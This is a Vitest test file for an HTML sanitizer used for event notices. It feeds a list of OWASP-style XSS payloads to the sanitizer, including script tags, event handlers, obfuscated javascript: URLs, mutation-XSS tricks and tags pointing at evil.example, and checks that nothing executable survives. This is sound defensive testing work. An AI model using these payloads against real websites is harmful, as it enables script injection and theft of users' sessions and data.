import { describe, expect, it } from 'vitest';
import { htmlToText, sanitizeNoticeHtml } from './sanitize';

/** Hostile payloads in the style of the OWASP XSS filter evasion cheat sheet. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<<script>script>alert(1)<</script>/script>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<img src="//evil.example/x.png">',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

describe('sanitizeNoticeHtml', () => {
  it.each(HOSTILE)('leaves nothing executable in %s', (payload) => {
    const out = sanitizeNoticeHtml(payload);
    expect(out).not.toMatch(/<script|<iframe|<object|<embed|<svg|<form|<meta|<link|<base|<style|<details/i);
    expect(out).not.toMatch(/\son[a-z]+\s*=/i);
    expect(out).not.toMatch(/javascript:|data:text/i);
    expect(out).not.toMatch(/style=/i);
    expect(out).not.toMatch(/src="\/\//);
  });

  it('keeps the formatting a notice needs', () => {
    const html =
      '<h3>안내</h3><p><strong>배번</strong> 수령: <a href="https://example.org/a">지도</a></p><ul><li>하프</li></ul><img src="https://example.org/p.png" alt="코스">';
    const out = sanitizeNoticeHtml(html);
    expect(out).toContain('<h3>안내</h3>');
    expect(out).toContain('<strong>배번</strong>');
    expect(out).toContain('href="https://example.org/a"');
    expect(out).toContain('rel="noopener noreferrer nofollow"');
    expect(out).toContain('<li>하프</li>');
    expect(out).toContain('<img src="https://example.org/p.png" alt="코스" />');
  });

  it('is stable when applied twice (stored, then rendered)', () => {
    const once = sanitizeNoticeHtml('<p onclick="x">a<script>b</script></p>');
    expect(sanitizeNoticeHtml(once)).toBe(once);
    expect(once).toBe('<p>a</p>');
  });
});

describe('htmlToText', () => {
  it('drops tags and collapses space', () => {
    expect(htmlToText('<p>대회   <b>안내</b></p><script>x</script>')).toBe('대회 안내');
  });
});
